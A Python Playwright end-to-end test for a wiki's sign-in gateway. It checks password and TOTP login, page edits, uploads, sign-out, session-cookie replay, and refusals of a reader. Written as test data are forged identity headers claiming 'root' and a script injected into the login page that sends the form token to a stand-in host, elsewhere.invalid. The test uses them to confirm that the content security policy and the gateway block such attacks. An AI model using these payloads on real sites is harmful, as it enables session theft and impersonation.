"""The story of two people at the wiki, told by a real browser, and everything that was seen meanwhile."""

from __future__ import annotations

import os
import struct
import time
import zlib
from dataclasses import dataclass, field
from http.client import HTTPSConnection
from pathlib import Path
from ssl import SSLContext
from typing import Any
from urllib.parse import urlsplit

import pyotp
from playwright.sync_api import Browser, ConsoleMessage, Page, Response, expect, sync_playwright

from tests.e2e.dokuwiki import DokuWiki

CHROMIUM = Path("/usr/bin/chromium")
FLAGS = [
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
]  # fmt: skip
STEP_MS = 20_000
SESSION_COOKIE = "__Host-gw"
PICTURE = "opening_day.png"
FORGED = {"X-Gateway-User": "root", "X-Gateway-Roles": "editor", "X-Forwarded-For": "203.0.113.9"}
"""What the second person's browser adds to every request."""

LISTEN = "addEventListener('securitypolicyviolation', e => told(e.violatedDirective + ' ' + e.blockedURI + ' at ' + location.pathname))"
SMUGGLE = """() => {
  const script = document.createElement('script');
  script.append('window.smuggled = true');
  const image = document.createElement('img');
  image.src = 'https://elsewhere.invalid/' + encodeURIComponent(document.forms[0].elements.form_token.value);
  document.body.append(script, image);
}"""


@dataclass(frozen=True)
class Person:
    """Somebody with an account of the gateway's."""

    name: str
    role: str
    password: str
    secret: str = field(default_factory=pyotp.random_base32)

    def code(self) -> str:
        """What the authenticator shows now."""
        return pyotp.TOTP(self.secret).now()

    def wrong_code(self) -> str:
        """Six digits that it does not show now, nor minutes around now."""
        totp, now = pyotp.TOTP(self.secret), int(time.time())
        shown = {totp.at(now + 30 * step) for step in range(-5, 6)}
        return next(code for code in (f"{number:06d}" for number in range(12)) if code not in shown)


@dataclass(frozen=True)
class Answer:
    """One answer as the browser had it."""

    person: str
    method: str
    url: str
    status: int
    fields: tuple[tuple[str, str], ...]

    @property
    def path(self) -> str:
        """Path of the request."""
        return urlsplit(self.url).path

    @property
    def request_id(self) -> str:
        """The gateway's name for the request."""
        return self.values("x-request-id")[0]

    def values(self, name: str) -> list[str]:
        """Every value of a field."""
        return [value for key, value in self.fields if key.lower() == name]


@dataclass(frozen=True)
class Moment:
    """What a person had before them after a step."""

    place: str
    """Path and query."""
    text: str
    status: int


@dataclass
class Story:
    """Everything that was seen while it was told."""

    editor: Person
    reader: Person
    after: dict[str, Moment] = field(default_factory=dict)
    answers: list[Answer] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)
    """What the browser complained of: CSP violations, script errors, loads that were blocked."""
    smuggled: bool = True
    """Whether a script that somebody put into the sign-in page ran."""
    smuggling: list[str] = field(default_factory=list)
    """What the browser said about that, and about a picture that would have carried a form token elsewhere."""
    cookies: list[dict[str, Any]] = field(default_factory=list)
    cookies_left: list[dict[str, Any]] = field(default_factory=list)
    picture: bytes = b""
    downloaded: bytes = b""
    replayed: tuple[int, str] = (0, "")
    """Status and Location for the editor's cookie after the sign-out."""
    protocol: str = ""
    """What the browser and the gateway agreed to speak, by its name in ALPN."""


def picture() -> bytes:
    """A PNG of some 100 KB whose bytes survive no conversion."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    width, height = 200, 180
    rows = b"".join(b"\0" + os.urandom(width * 3) for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


class Desk:
    """One person at a browser of their own."""

    def __init__(self, browser: Browser, story: Story, person: Person, url: str, extra: dict[str, str]) -> None:
        self.story = story
        self.person = person
        self.url = url
        self.told: list[str] = []
        self._responses: list[Response] = []
        self.context = browser.new_context(ignore_https_errors=True, locale="en-GB", extra_http_headers=extra)
        self.context.set_default_timeout(STEP_MS)
        self.context.expose_function("told", self._note_violation)
        self.context.add_init_script(LISTEN)
        self.context.on("response", self._keep)
        self.context.on("console", self._hear)
        self.page = self.open()

    def open(self) -> Page:
        """Open a tab."""
        page = self.context.new_page()
        page.on("pageerror", lambda error: self.told.append(f"script error: {error}"))
        return page

    def _keep(self, response: Response) -> None:
        self._responses.append(response)

    def _note_violation(self, sentence: str) -> None:
        self.told.append(sentence)

    def _hear(self, message: ConsoleMessage) -> None:
        if message.type == "error" and "Content Security Policy" in message.text:
            self.told.append(message.text)

    def go(self, path: str) -> int:
        """Type an address; the status of what came in the end."""
        answer = self.page.goto(self.url + path)
        assert answer is not None
        return answer.status

    def note(self, step: str, status: int = 200) -> None:
        """Keep what the person has before them."""
        place = urlsplit(self.page.url)
        text = self.page.inner_text("body")
        query = f"?{place.query}" if place.query else ""
        self.story.after[f"{self.person.name}: {step}"] = Moment(place.path + query, text, status)

    def sign_in(self, wanted: str, *, mistaken: bool) -> None:
        """Password, then code; a mistaken person gets each wrong once."""
        page, person = self.page, self.person
        self.note("before sign-in", self.go(wanted))
        if mistaken:
            page.get_by_label("User name").fill(person.name)
            page.get_by_label("Password").fill("not the password at all")
            page.get_by_role("button", name="Sign in").click()
            expect(page.get_by_role("alert")).to_be_visible()
            self.note("wrong password")
        page.get_by_label("User name").fill(person.name)
        page.get_by_label("Password").fill(person.password)
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_url("**/.gateway/mfa")
        self.note("password")
        if mistaken:
            page.get_by_label("code").fill(person.wrong_code())
            page.get_by_role("button", name="Continue").click()
            expect(page.get_by_role("alert")).to_be_visible()
            self.note("wrong code")
        page.get_by_label("code").fill(person.code())
        page.get_by_role("button", name="Continue").click()
        page.wait_for_url(self.url + wanted)
        self.note("code")

    def close(self) -> None:
        """Keep what the browser heard, and leave."""
        for response in self._responses:
            fields = tuple((field["name"], field["value"]) for field in response.headers_array())
            request = response.request
            self.story.answers.append(Answer(self.person.name, request.method, response.url, response.status, fields))
        self.story.complaints += self.told
        self.context.close()


def tell(story: Story, url: str, trust: SSLContext) -> None:
    """Tell the story, from the first refusal to the last."""
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        try:
            _the_editor_works(browser, story, url, trust)
            _the_reader_is_curious(browser, story, url)
            _a_script_is_smuggled_in(browser, story, url)
        finally:
            browser.close()


def _the_editor_works(browser: Browser, story: Story, url: str, trust: SSLContext) -> None:
    desk = Desk(browser, story, story.editor, url, {})
    page = desk.page
    desk.sign_in("/start", mistaken=True)
    story.cookies = [dict(cookie) for cookie in desk.context.cookies()]

    page.get_by_role("link", name="Log In").click()  # the wiki's own
    content = page.locator("#dokuwiki__content")
    content.get_by_label("Username").fill(DokuWiki.PERSON)
    content.get_by_label("Password").fill(DokuWiki.PASSWORD)
    content.get_by_role("button", name="Log In").click()
    expect(page.get_by_text("Logged in as:")).to_be_visible()
    desk.note("signed in to the wiki")

    desk.go("/opening_hours?do=edit")
    page.locator("#wiki__text").fill("====== Opening hours ======\nFrom ten to six. Ünïcode & <angles>, too.\n")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("heading", name="Opening hours")).to_be_visible()
    desk.note("saved")

    desk.go("/opening_hours?do=media&tab_files=upload")
    page.locator("#mediamanager__page input[type=file]").set_input_files(
        {"name": PICTURE, "mimeType": "image/png", "buffer": story.picture}
    )
    with page.expect_response(lambda answer: "call=mediaupload" in answer.url):
        page.locator("#mediamanager__upload_button").click()
    expect(page.locator("#mediamanager__uploader")).to_contain_text(PICTURE)
    page.wait_for_load_state("networkidle")
    desk.note("uploaded")
    story.protocol = page.evaluate("performance.getEntriesByType('navigation')[0].nextHopProtocol")

    with page.expect_response(lambda answer: answer.url.endswith(f"/_media/{PICTURE}")) as shown:
        desk.go(f"/_media/{PICTURE}")
    story.downloaded = shown.value.body()

    desk.note("account", desk.go("/.gateway/account"))
    token = next(cookie["value"] for cookie in desk.context.cookies() if cookie["name"] == SESSION_COOKIE)
    page.get_by_role("link", name="Sign out").click()
    page.get_by_role("button", name="Sign out").click()
    page.wait_for_url("**/.gateway/login*")
    desk.note("signed out")
    story.cookies_left = [dict(cookie) for cookie in desk.context.cookies()]
    desk.note("after sign-out", desk.go("/opening_hours"))
    desk.note("download after sign-out", desk.go(f"/_media/{PICTURE}"))
    desk.close()
    story.replayed = _replay(url, trust, token)


def _the_reader_is_curious(browser: Browser, story: Story, url: str) -> None:
    desk = Desk(browser, story, story.reader, url, FORGED)
    desk.sign_in("/start", mistaken=False)
    desk.note("refused a page", desk.go("/opening_hours"))
    desk.note("refused a picture", desk.go(f"/_media/{PICTURE}"))
    desk.go("/start")
    with desk.page.expect_navigation() as navigation:
        desk.page.evaluate("""() => {
          const form = document.body.appendChild(document.createElement('form'));
          form.method = 'post';
          form.action = '/opening_hours';
          form.submit();
        }""")
    desk.note("refused to save", navigation.value.status)
    desk.close()


def _a_script_is_smuggled_in(browser: Browser, story: Story, url: str) -> None:
    desk = Desk(browser, story, Person("nobody", "", ""), url, {})
    desk.go("/.gateway/login")
    desk.page.evaluate(SMUGGLE)
    deadline = time.monotonic() + STEP_MS / 1000
    while {"img-src", "require-trusted-types-for"} - {told.split()[0] for told in desk.told}:
        assert time.monotonic() < deadline, desk.told
        desk.page.wait_for_timeout(20)
    story.smuggled = desk.page.evaluate("window.smuggled === true")
    story.smuggling = list(desk.told)
    desk.told.clear()
    desk.close()


def _replay(url: str, trust: SSLContext, token: str) -> tuple[int, str]:
    place = urlsplit(url)
    assert place.port is not None
    connection = HTTPSConnection("127.0.0.1", place.port, context=trust, timeout=STEP_MS / 1000)
    try:
        cookie = f"{SESSION_COOKIE}={token}"
        navigates = {"Accept": "text/html", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
        connection.request("GET", "/start", headers={"Host": place.netloc, "Cookie": cookie, **navigates})
        answer = connection.getresponse()
        answer.read()
        return answer.status, answer.getheader("Location", "")
    finally:
        connection.close()
